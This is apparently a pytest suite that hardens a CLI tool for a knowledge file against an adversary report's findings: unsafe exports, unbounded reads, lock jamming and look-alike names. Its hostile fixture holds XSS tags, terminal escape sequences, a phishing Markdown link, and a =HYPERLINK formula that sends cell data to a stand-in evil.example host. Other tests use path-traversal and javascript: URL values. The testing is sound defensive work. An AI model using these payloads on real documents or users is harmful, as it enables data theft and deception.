"""Issue 26 (reliability, third round): the adversary report's findings N1-N16, each through a real process where
the report demands it. Writes that never destroy, bounded reads, a lock that cannot be jammed, one knowledge
version per run."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from ecofacts import atomic
from ecofacts.errors import KnowledgeFileError

from .conftest import TINY, invoke, process_env

pytestmark = pytest.mark.slow  # real processes, shells or terminals, one test after another

ENV = process_env()
for _name in ("FORCE_COLOR", "PY_COLORS", "GITHUB_ACTIONS", "NO_COLOR", "ECOFACTS_DATA"):
    ENV.pop(_name, None)


def run(*args: str, timeout: float = 60, **kwargs) -> subprocess.CompletedProcess[str]:
    env = {**ENV, **kwargs.pop("env", {})}
    return subprocess.run([sys.executable, "-m", "ecofacts", *args], capture_output=True, text=True, env=env,
                          timeout=timeout, **kwargs)


def one_line_error(result: subprocess.CompletedProcess[str], code: int, *words: str) -> None:
    assert result.returncode == code, (result.returncode, result.stderr)
    assert "Traceback" not in result.stderr
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("error: "), result.stderr
    for word in words:
        assert word in result.stderr, result.stderr


@pytest.fixture
def k(tmp_path: Path) -> Path:
    path = tmp_path / "k.toml"
    shutil.copy(TINY, path)
    return path


def snapshot(folder: Path) -> dict[str, tuple[int, bytes | str]]:
    """Every entry of `folder`: its mode and its bytes (or a link's target)."""
    out: dict[str, tuple[int, bytes | str]] = {}
    for entry in sorted(os.listdir(folder)):
        p = folder / entry
        info = p.lstat()
        if p.is_symlink():
            out[entry] = (info.st_mode, os.readlink(p))
        elif p.is_file():
            out[entry] = (info.st_mode, p.read_bytes())
        else:
            out[entry] = (info.st_mode, b"")
    return out


# --- N1, N2, N4, N16: export never destroys ------------------------------------------------------------------


@pytest.mark.parametrize("target", ["k.toml", "./k.toml", "link.db", "hard.db"])
def test_export_refuses_the_knowledge_file_it_reads_however_named(k: Path, target: str):
    (k.parent / "link.db").symlink_to("k.toml")
    os.link(k, k.parent / "hard.db")
    before = snapshot(k.parent)
    one_line_error(run("--data", str(k), "export", target, cwd=k.parent), 3, "knowledge file")
    assert snapshot(k.parent) == before


@pytest.mark.parametrize("make", ["fifo", "symlink", "socket", "folder"])
def test_export_refuses_what_is_not_a_regular_file(k: Path, make: str):
    import socket

    target = k.parent / "out.db"
    if make == "fifo":
        os.mkfifo(target)
    elif make == "symlink":
        (k.parent / "elsewhere.db").write_bytes(b"")
        target.symlink_to("elsewhere.db")
    elif make == "socket":
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(str(target))
    else:
        target.mkdir()
    before = snapshot(k.parent)
    one_line_error(run("--data", str(k), "export", str(target), timeout=20), 3, "refusing to replace")
    assert snapshot(k.parent) == before


@pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root")
def test_export_as_root_refuses_a_device_node(k: Path):
    node = k.parent / "null"
    os.mknod(node, 0o666 | 0o020000, os.makedev(1, 3))
    one_line_error(run("--data", str(k), "export", str(node)), 3, "character device")
    assert node.is_char_device() and not (k.parent / "null.metadata.json").exists()


def test_export_refuses_a_file_that_is_not_sqlite_unless_forced(k: Path):
    other = k.parent / "notes.db"
    other.write_text("my notes\n")
    one_line_error(run("--data", str(k), "export", str(other)), 3, "not an SQLite database", "--force")
    assert other.read_text() == "my notes\n"
    assert run("--data", str(k), "export", str(other), "--force").returncode == 0
    assert other.read_bytes().startswith(b"SQLite format 3\0")


def test_foreign_metadata_is_refused_and_the_database_left_as_it_was(k: Path):
    """N4: another user's `description_html` in the metadata's place: refused before anything is written."""
    out = k.parent / "facts.db"
    assert run("--data", str(k), "export", str(out)).returncode == 0
    db_before = out.read_bytes()
    planted = json.dumps({"description_html": "<script>alert(1)</script>"})
    (k.parent / "facts.metadata.json").write_text(planted)
    one_line_error(run("--data", str(k), "export", str(out)), 3, "facts.metadata.json")
    assert out.read_bytes() == db_before and (k.parent / "facts.metadata.json").read_text() == planted


def test_a_metadata_that_cannot_be_written_leaves_the_database_unchanged_and_is_named(k: Path):
    """N4: the metadata fails (its name too long): the database was not replaced, and the error names the
    metadata file, exit 4."""
    out = k.parent / ("a" * 228 + ".db")  # the database's temp name fits in 255 bytes; the metadata's does not
    result = run("--data", str(k), "export", str(out))
    one_line_error(result, 4, "metadata.json")
    assert not out.exists()
    assert sorted(os.listdir(k.parent)) == ["k.toml"]


def test_metadata_carries_no_html_and_is_named_as_datasette_names_the_database(k: Path):
    for name, meta in (("f.sqlite", "f.metadata.json"), ("g.SQLITE3", "g.metadata.json"), ("h.db", "h.metadata.json")):
        assert run("--data", str(k), "export", str(k.parent / name)).returncode == 0
        data = json.loads((k.parent / meta).read_text())
        assert list(data["databases"]) == [Path(name).stem]
        assert "<" not in json.dumps(data) and "_html" not in json.dumps(data)


def test_a_re_export_keeps_the_database_mode(k: Path):
    out = k.parent / "facts.db"
    assert run("--data", str(k), "export", str(out)).returncode == 0
    out.chmod(0o600)
    assert run("--data", str(k), "export", str(out)).returncode == 0
    assert out.stat().st_mode & 0o777 == 0o600


def _killed_export(k: Path, out: Path, sig: int) -> None:
    """An export killed by `sig` once its temporary database exists."""
    proc = subprocess.Popen([sys.executable, "-c", (
        "import sys, time, ecofacts.export as e\n"
        "real = e._fill_database\n"
        "def slow(*a):\n    real(*a)\n    time.sleep(60)\n"
        "e._fill_database = slow\n"
        "from ecofacts.cli import main\nsys.argv = ['ecofacts', '--data', sys.argv[1], 'export', sys.argv[2]]\n"
        "main()\n"), str(k), str(out)], env=ENV, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 30
    while not [n for n in os.listdir(out.parent) if n.endswith(".tmp")]:
        assert time.monotonic() < deadline, "no temporary file appeared"
        time.sleep(0.05)
    proc.send_signal(sig)
    proc.wait(30)


@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
def test_a_killed_export_leaves_a_pid_named_temp_file_the_next_export_removes(k: Path, sig: int):
    """N12: the temporary file carries the writer's pid, and the next export removes it once that pid is gone."""
    out = k.parent / "facts.db"
    _killed_export(k, out, sig)
    left = [n for n in os.listdir(k.parent) if n.endswith(".tmp")]
    assert len(left) == 1 and left[0].startswith(".facts.db.")
    assert run("--data", str(k), "export", str(out)).returncode == 0
    assert sorted(os.listdir(k.parent)) == ["facts.db", "facts.metadata.json", "k.toml"]


def test_the_cache_removes_temp_files_of_dead_writers(tmp_path: Path):
    """N12, the cache: `..PID.X.tmp` (the old naming) and `.NAME.PID.X.tmp` of a pid gone are removed by the next
    cache write; a living writer's are kept."""
    folder = tmp_path / "cache"
    folder.mkdir()
    dead = subprocess.Popen(["true"])
    dead.wait()
    stale = [folder / f"..{dead.pid}.abcd1234.tmp", folder / f".x.sqlite.{dead.pid}.abcd1234.tmp"]
    alive = folder / f".x.sqlite.{os.getppid()}.abcd1234.tmp"
    for p in [*stale, alive]:
        p.write_bytes(b"x")
    from ecofacts import private

    private.replace(folder / "y.sqlite", lambda tmp: Path(tmp).write_bytes(b"new"))
    assert sorted(os.listdir(folder)) == sorted([alive.name, "y.sqlite"])
    assert (folder / "y.sqlite").stat().st_mode & 0o777 == 0o600


def test_atomic_write_refuses_non_regular_targets_and_keeps_the_mode(tmp_path: Path):
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "target")
    with pytest.raises(KnowledgeFileError, match="symbolic link"):
        atomic.write_bytes(link, b"x")
    assert not (tmp_path / "target").exists()
    plain = tmp_path / "plain"
    plain.write_bytes(b"old")
    plain.chmod(0o640)
    atomic.write_bytes(plain, b"new")
    assert plain.read_bytes() == b"new" and plain.stat().st_mode & 0o777 == 0o640
    assert sorted(os.listdir(tmp_path)) == ["link", "plain"]


def test_no_import_circle_between_the_loader_and_the_cache():
    for module in ("ecofacts.cache", "ecofacts.loader", "ecofacts.atomic"):
        result = subprocess.run([sys.executable, "-c", f"import {module}"], capture_output=True, text=True, env=ENV)
        assert result.returncode == 0, result.stderr
    source = (Path(atomic.__file__).parent / "cache.py").read_text()
    assert "ecofacts.loader" not in source and "from ecofacts import loader" not in source


# --- N8: the lock cannot be jammed -------------------------------------------------------------------------


@pytest.mark.parametrize("command", [["fmt"], ["add", "city", "id=zz", "name=Zz", "region=wallonia",
                                                "description=d", "sources=doc-a"]])
def test_a_fifo_where_the_lock_goes_is_refused_at_once(k: Path, command: list[str]):
    os.mkfifo(k.parent / ".k.toml.lock")
    before = k.read_bytes()
    one_line_error(run("--data", str(k), *command, timeout=15), 3, "FIFO")
    assert k.read_bytes() == before


# --- N7: one knowledge version per run ---------------------------------------------------------------------


@pytest.mark.parametrize("cached", [False, True])
def test_cite_and_export_stamp_the_hash_of_the_bytes_loaded(k: Path, tmp_path: Path, cached: bool):
    """The file is replaced after it was loaded (the load is made slow on purpose): the hash printed is that of
    the bytes loaded, from a parse or from the parse cache."""
    loaded = hashlib.sha256(k.read_bytes()).hexdigest()[:12]
    env = {"XDG_CACHE_HOME": str(tmp_path / "xdg")}
    if cached:
        old = time.time() - 10
        os.utime(k, (old, old))  # settled: cached
        assert run("--data", str(k), "stats", env=env).returncode == 0
    else:
        env["ECOFACTS_NO_CACHE"] = "1"
    replacement = k.read_text().replace("5000", "5001")
    script = (
        "import sys, pathlib, ecofacts.loader as l\n"
        "real = l.load\n"
        "def load(path, use_cache=True):\n"
        "    k = real(path, use_cache)\n"
        "    pathlib.Path(path).write_text(sys.argv[2])\n"
        "    return k\n"
        "l.load = load\n"
        "from ecofacts.cli import main\n"
        "sys.argv = ['ecofacts', '--data', sys.argv[1], *sys.argv[3:]]\nmain()\n")
    cite = subprocess.run([sys.executable, "-c", script, str(k), replacement, "cite", "belgium-jobs"],
                          capture_output=True, text=True, env={**ENV, **env})
    assert cite.returncode == 0, cite.stderr
    assert f"knowledge {loaded}" in cite.stdout
    k.write_text(TINY.read_text())
    out = tmp_path / "facts.db"
    exp = subprocess.run([sys.executable, "-c", script, str(k), replacement, "export", str(out)],
                         capture_output=True, text=True, env={**ENV, **env})
    assert exp.returncode == 0, exp.stderr
    assert loaded in json.loads(out.with_name("facts.metadata.json").read_text())["source"]
    assert sqlite3.connect(out).execute("SELECT value FROM stats WHERE id = 'belgium-jobs'").fetchone()[0] == 5000


# --- N5, N13: bounded reads ---------------------------------------------------------------------------------


def test_verify_refuses_a_device_and_a_fifo_and_a_draft_over_the_limit(k: Path):
    one_line_error(run("--data", str(k), "verify", "/dev/zero", timeout=20), 3, "character device")
    fifo = k.parent / "draft.md"
    os.mkfifo(fifo)
    one_line_error(run("--data", str(k), "verify", str(fifo), timeout=20), 3, "FIFO")
    big = k.parent / "big.md"
    big.write_text("Wallonia has 3,800 jobs.\n" * 100)
    one_line_error(run("--data", str(k), "verify", str(big), env={"ECOFACTS_MAX_DRAFT_BYTES": "1000"}), 3,
                   "over the limit")


def test_verify_stdin_is_bounded_and_a_closed_stdin_is_one_line(k: Path):
    with open("/dev/zero", "rb") as zero:
        one_line_error(run("--data", str(k), "verify", "-", stdin=zero, timeout=30,
                           env={"ECOFACTS_MAX_DRAFT_BYTES": "100000"}), 3, "over the limit")
    closed = subprocess.run([sys.executable, "-m", "ecofacts", "--data", str(k), "verify", "-"],
                            capture_output=True, text=True, env=ENV, timeout=30, preexec_fn=lambda: os.close(0))
    one_line_error(closed, 2, "standard input")


def test_verify_decodes_a_file_and_stdin_alike(k: Path):
    bad = k.parent / "bad.md"
    bad.write_bytes(b"Wallonia has 3,800 jobs \xff.\n")
    one_line_error(run("--data", str(k), "verify", str(bad)), 2, "not UTF-8")
    with open(bad, "rb") as stdin:
        one_line_error(run("--data", str(k), "verify", "-", stdin=stdin), 2, "not UTF-8")


def test_verify_reads_process_substitution(k: Path):
    result = subprocess.run(["bash", "-c", f'{sys.executable} -m ecofacts --data {k} verify <(echo "Belgium has '
                             '5000 direct and indirect jobs.") --json'], capture_output=True, text=True, env=ENV,
                            timeout=30)
    assert result.returncode in (0, 1), result.stderr
    assert json.loads(result.stdout)


@pytest.mark.parametrize("make", ["zero", "fifo"])
def test_a_source_text_that_is_not_a_regular_file_is_refused(k: Path, make: str):
    sources = k.parent / "srcs"
    sources.mkdir()
    text = sources / "doc-a.txt"
    if make == "zero":
        text.symlink_to("/dev/zero")
    else:
        os.mkfifo(text)
    one_line_error(run("--data", str(k), "check", "--sources", str(sources), timeout=20), 3, "not a source text")


# --- N3, N9, N10: every output inert -----------------------------------------------------------------------

HOSTILE_SOURCE = {
    'title = "Document A"': 'title = "Document \\u001b[31mA\\u009b2J <script>alert(1)</script> \\u202e"',
    'publisher = "Test publisher"': (
        'publisher = "Test \\u001b]0;TITLE\\u0007publisher"\n'
        'url = "https://ok.example/>) [Verify your account](https://evil.example/login) <x"'),
    'description = "A test document."':
        'description = "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\") <img src=x>"',
}
RAW_CONTROLS = [chr(c) for c in (*range(0x00, 0x09), *range(0x0b, 0x20), *range(0x7f, 0xa0))] + \
    ["\u061c", "\u200e", "\u200f", *map(chr, range(0x202a, 0x202f)), *map(chr, range(0x2066, 0x206a))]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    text = TINY.read_text()
    for old, new in HOSTILE_SOURCE.items():
        assert old in text
        text = text.replace(old, new, 1)
    path = tmp_path / "hostile.toml"
    path.write_text(text)
    return path


def _inert(text: str) -> None:
    found = [f"U+{ord(ch):04X}" for ch in text if ch in RAW_CONTROLS]
    assert not found, found


@pytest.mark.parametrize("style", ["apa", "bibtex", "ris", "markdown", "csl-json"])
def test_cite_sends_no_raw_control_character_in_any_style(hostile: Path, style: str):
    result = run("--data", str(hostile), "cite", "belgium-jobs", "--style", style)
    assert result.returncode == 0, result.stderr
    _inert(result.stdout)
    if style == "csl-json":
        assert json.loads(result.stdout)[0]["title"].startswith("Document \x1b[31mA\x9b2J")  # the same value
    else:  # written as a visible escape (in BibTeX, its backslash escaped for TeX)
        assert "\\x1b" in result.stdout or "\\textbackslash{}x1b" in result.stdout


def test_cite_markdown_makes_no_link_of_a_url_that_could_inject_one(hostile: Path):
    from markdown_it import MarkdownIt  # rich's own Markdown parser (CommonMark)

    out = run("--data", str(hostile), "cite", "belgium-jobs", "--style", "markdown").stdout
    html = MarkdownIt("commonmark").render(out)
    assert "evil.example" in html and 'href="https://evil' not in html and "<a " not in html
    assert "<script" not in html


def test_cite_markdown_links_a_plain_https_url_and_percent_encodes_what_would_end_it():
    from ecofacts.render.citation import md_url

    assert md_url("https://ok.example/a b>c") is None  # a space: not one URL
    assert md_url("https://ok.example/a>c<d") == "https://ok.example/a%3Ec%3Cd"
    assert md_url("javascript:alert(1)") is None and md_url("/etc/passwd") is None


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_no_csv_or_tsv_cell_starts_with_a_formula_and_numbers_stay_numbers(hostile: Path, fmt: str):
    import csv
    import io

    for args in (["sources", "--fields", "id,title,description"], ["stats", "--fields", "id,value,label"],
                 ["sources", "--bom"]):
        result = run("--data", str(hostile), *args, "--format", fmt)
        assert result.returncode == 0, result.stderr
        _inert(result.stdout.replace("\t", " ").replace("\n", " ").replace("\r", " "))
        rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff")), delimiter="," if fmt == "csv" else "\t"))
        for row in rows:
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
                assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), value
    stats = run("--data", str(hostile), "stats", "--fields", "id,value", "--format", fmt).stdout
    assert "5000" in stats and "'5000" not in stats
    described = run("--data", str(hostile), "sources", "--fields", "id,description", "--format", fmt).stdout
    assert "'=HYPERLINK(" in described


def test_defused_keeps_numbers_and_prefixes_formulas():
    from ecofacts.render.delimited import defused

    assert [defused(t) for t in ("-5", "+3.2", "1e-3", "-1+2", "=1+1", "@SUM(1)", "\tx", "\rx", "a=b")] == \
        ["-5", "+3.2", "1e-3", "'-1+2", "'=1+1", "'@SUM(1)", "'\tx", "'\rx", "a=b"]


def test_markdown_escapes_html_in_tables_and_compare_footnotes(hostile: Path):
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark").enable("table")
    table = run("--data", str(hostile), "sources", "--format", "markdown", "--fields", "id,title,description")
    assert table.returncode == 0 and "<script>" not in table.stdout and "<img" not in table.stdout
    assert "&lt;script&gt;" in table.stdout
    _inert(table.stdout)
    assert "<script" not in md.render(table.stdout) and "<img" not in md.render(table.stdout)
    compare = run("--data", str(hostile), "compare", "wallonia", "belgium", "--format", "markdown")
    assert compare.returncode == 0, compare.stderr
    assert "Document" in compare.stdout and "<script>" not in compare.stdout
    assert "<script" not in md.render(compare.stdout)
    _inert(compare.stdout)


# --- N6: verify is linear in a line's length ----------------------------------------------------------------


def test_verify_looks_at_each_figure_of_a_line_a_bounded_number_of_times(monkeypatch: pytest.MonkeyPatch):
    """A line of n sentences with a figure each: the figures' positions are read O(n) times, not n * n (the
    quadratic loop of the report made a one-line draft of 32,000 figures take 47 s). Counted, not timed."""
    from ecofacts import verify as v
    from ecofacts.loader import load

    k = load(TINY, use_cache=False)
    reads = 0

    class Counted(v.Figure):
        @property
        def start(self) -> int:  # type: ignore[override]
            nonlocal reads
            reads += 1
            return tuple.__getitem__(self, 1)

    real = v.figures
    monkeypatch.setattr(v, "figures", lambda line, lang="en": (Counted(*f) for f in real(line, lang)))
    n = 400
    one_line = v.verify(k, "Wallonia has 3,800 jobs. " * n)
    per_line = v.verify(k, "Wallonia has 3,800 jobs.\n" * n)
    assert len(one_line) == len(per_line) == n
    assert [f.verdict for f in one_line] == [f.verdict for f in per_line]
    assert reads < 20 * n * 2, reads  # the old loop: n * n = 160,000


# --- N11: look-alike names by UTS #39, and add applying check's rules ---------------------------------------

LOOK_ALIKES = ["Trasis\u3164", "\u115fTrasis", "Trasis\uffa0", "Trasis\u2800", "Tra\u034fsis", "Trasis\ufe0f",
               "Trasis\u00a0", "\u13a2rasis", "Tr\u0251sis", "Tra\u200bsis", "\u0422rasis", "Tr\u0430sis",
               "Tr\u03b1sis", "Tra\u00adsis", "Tra\u180esis", "Trasis\U000e0041", "\u202eTrasis"]


def test_every_look_alike_of_the_report_is_a_problem_for_check_and_refused_by_add(k: Path):
    """The 22 names of the report, beside an actor named `Trasis`: `add` refuses each (exit 3) with the problem
    `check` reports for it once written by hand (exit 1); the file is unchanged."""
    text = k.read_text()
    assert 'name = "Trasis"' in text
    before = k.read_bytes()
    for name in LOOK_ALIKES:  # in-process: 25 processes would take seconds to say what the CLI says here
        result = invoke("--data", str(k), "add", "city", "id=c5", f"name={name}", "region=wallonia", "description=d",
                        "sources=doc-a")
        assert result.exit_code == 3, (name, result.stderr)
        assert ("check" in result.stderr or "control character" in result.stderr), result.stderr
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
        assert k.read_bytes() == before
    for name in LOOK_ALIKES[:8]:  # the ones check missed, written by hand
        hand = k.with_name("hand.toml")
        escaped = json.dumps(name)  # a TOML basic string is a JSON string here
        hand.write_text(text + f'\n[[cities]]\nid = "c5"\nname = {escaped}\nregion = "wallonia"\n'
                        'description = "d"\nsources = ["doc-a"]\n')
        result = invoke("--data", str(hand), "check")
        assert result.exit_code == 1, (name, result.stdout, result.stderr)
    assert run("--data", str(k), "add", "city", "id=c5", f"name={LOOK_ALIKES[0]}", "region=wallonia",
               "description=d", "sources=doc-a").returncode == 3  # and so in a process of its own


def test_add_accepts_a_plain_new_name(k: Path):
    result = run("--data", str(k), "add", "city", "id=namur", "name=Namur", "region=wallonia", "description=d",
                 "sources=doc-a")
    assert result.returncode == 0, result.stderr
    assert run("--data", str(k), "check").returncode == 0


def test_skeletons_by_the_confusables_table():
    from ecofacts.lookalike import name_problem, skeleton

    assert skeleton("\u13a2rasis") == skeleton("Tr\u0251sis") == skeleton("\uff34rasis") == skeleton("Trasis")
    assert skeleton("Bi\u0585Win") == skeleton("BioWin")
    assert skeleton("Liège") != skeleton("Liege") and skeleton("Namur") != skeleton("Trasis")
    assert name_problem("Liège") is None and name_problem("Saint-Ghislain") is None


# --- N14: add refuses wrong or unportable values ------------------------------------------------------------

STAT = ["subject=belgium", "metric=m", "topic=t", "label=L", "unit=jobs", "status=measured", "text=5000",
        "quote=q", "source=doc-a"]


@pytest.mark.parametrize(("extra", "code"), [
    (["value=1_000"], 2), (["value=\u0665\u0660\u0660\u0660"], 2), (["value=inf"], 2),
    (["value=5000", "year=\uff12\uff10\uff12\uff12"], 3), (["value=5000", "year=2025-2020"], 3),
    (["value=5", "value_max=1"], 3)])
def test_add_refuses_values_that_are_wrong_or_not_portable(k: Path, extra: list[str], code: int):
    before = k.read_bytes()
    result = run("--data", str(k), "add", "stat", "id=s9", *STAT, *extra)
    assert result.returncode == code and "Traceback" not in result.stderr, result.stderr
    assert k.read_bytes() == before


def test_add_refuses_an_empty_required_list(k: Path):
    before = k.read_bytes()
    one_line_error(run("--data", str(k), "add", "city", "id=c1", "name=C1", "region=wallonia", "description=d",
                       "sources="), 2, "sources")
    assert k.read_bytes() == before


def test_add_accepts_a_period_in_order_and_a_range_in_order(k: Path):
    result = run("--data", str(k), "add", "stat", "id=s9", *STAT, "value=5000", "value_max=6000", "year=2020-2025",
                 "--new")  # its topic, unit and metric are new to the file
    assert result.returncode == 0, result.stderr


# --- N15: a literal \u0023 is not a comment ----------------------------------------------------------------


def test_fmt_rewrites_a_file_whose_literal_string_holds_an_escape_like_text(k: Path):
    text = k.read_text().replace('description = "A test document."',
                                 "description = 'Escape \\u0023 is how TOML writes a hash'", 1)
    assert "\\u0023" in text
    k.write_text(text)
    result = run("--data", str(k), "fmt")
    assert result.returncode == 0, result.stderr
    import tomllib

    assert tomllib.loads(k.read_text())["sources"][0]["description"] == "Escape \\u0023 is how TOML writes a hash"


def test_a_hash_written_as_an_escape_in_a_basic_string_still_counts():
    from ecofacts.writer import has_hidden_comment

    text = 'a = "x\\u0023y"\n'
    assert not has_hidden_comment(text, {"a": "x#y"})
    assert has_hidden_comment("a = 'x\\u0023y'\n", {"a": "x\\u0023y", "b": "#"})


# --- N16: verify's table keeps its verdict; a figure too long for a float supports nothing ------------------


def test_a_very_wide_figure_leaves_the_verdict_column_and_supports_nothing(k: Path):
    draft = k.parent / "wide.md"
    draft.write_text("Wallonia has " + "1" * 10_000 + " jobs.\n")
    table = run("--data", str(k), "verify", str(draft), env={"COLUMNS": "80"})
    assert table.returncode == 0, table.stderr
    assert "verdict" in table.stdout.splitlines()[0] and "unknown" in table.stdout
    assert "left out" in table.stderr and "verdict" not in table.stderr
    found = json.loads(run("--data", str(k), "verify", str(draft), "--json").stdout)
    assert [f["verdict"] for f in found] == ["unknown"]


def test_check_reports_a_part_of_cycle_between_cities(k: Path):
    import tomllib

    import tomli_w

    data = tomllib.loads(k.read_text())
    cities = {c["id"]: c for c in data["cities"]}
    cities["charleroi"]["part_of"] = "gosselies"
    cities["gosselies"]["part_of"] = "charleroi"
    k.write_text(tomli_w.dumps(data))
    result = run("--data", str(k), "check")
    assert result.returncode == 1
    assert "charleroi -> gosselies -> charleroi" in result.stdout + result.stderr


def test_exports_at_once_to_one_path_leave_a_database_and_metadata_of_one_run(tmp_path: Path):
    """Three knowledge files exported to one PATH at once (x3): the metadata's knowledge hash is always that of
    the file whose figures the database holds (both or neither, under concurrency too)."""
    files = {}
    for n in range(3):
        path = tmp_path / f"k{n}.toml"
        path.write_text(TINY.read_text().replace("value = 5000", f"value = {5000 + n}", 1))
        files[hashlib.sha256(path.read_bytes()).hexdigest()[:12]] = 5000 + n
    out = tmp_path / "out" / "facts.db"
    out.parent.mkdir()
    for _ in range(3):
        procs = [subprocess.Popen([sys.executable, "-m", "ecofacts", "--no-cache", "--data",
                                   str(tmp_path / f"k{n}.toml"), "export", str(out)], env=ENV, stderr=subprocess.PIPE)
                 for n in range(3)]
        for proc in procs:
            assert proc.wait(60) in (0, 3), proc.stderr.read()  # type: ignore[union-attr]
        source = json.loads(out.with_name("facts.metadata.json").read_text())["source"]
        value = sqlite3.connect(out).execute("SELECT value FROM stats WHERE id = 'belgium-jobs'").fetchone()[0]
        assert files[source.rsplit(" ", 1)[1]] == value
        assert sorted(os.listdir(out.parent)) == ["facts.db", "facts.metadata.json"]


def test_add_refuses_a_fifo_as_a_source_text_and_a_source_that_is_a_path(k: Path):
    sources = k.parent / "srcs"
    sources.mkdir()
    os.mkfifo(sources / "doc-a.txt")
    before = k.read_bytes()
    one_line_error(run("--data", str(k), "add", "stat", "id=s9", *STAT, "value=5000", "--sources", str(sources),
                       timeout=20), 3, "FIFO")
    outside = k.parent / "x.txt"
    outside.write_text("q 5000")
    stat = [a if not a.startswith("source=") else "source=../x" for a in STAT]
    result = run("--data", str(k), "add", "stat", "id=s9", *stat, "value=5000", "--sources", str(sources))
    assert result.returncode == 2 and "not an id" in result.stderr, result.stderr
    assert k.read_bytes() == before
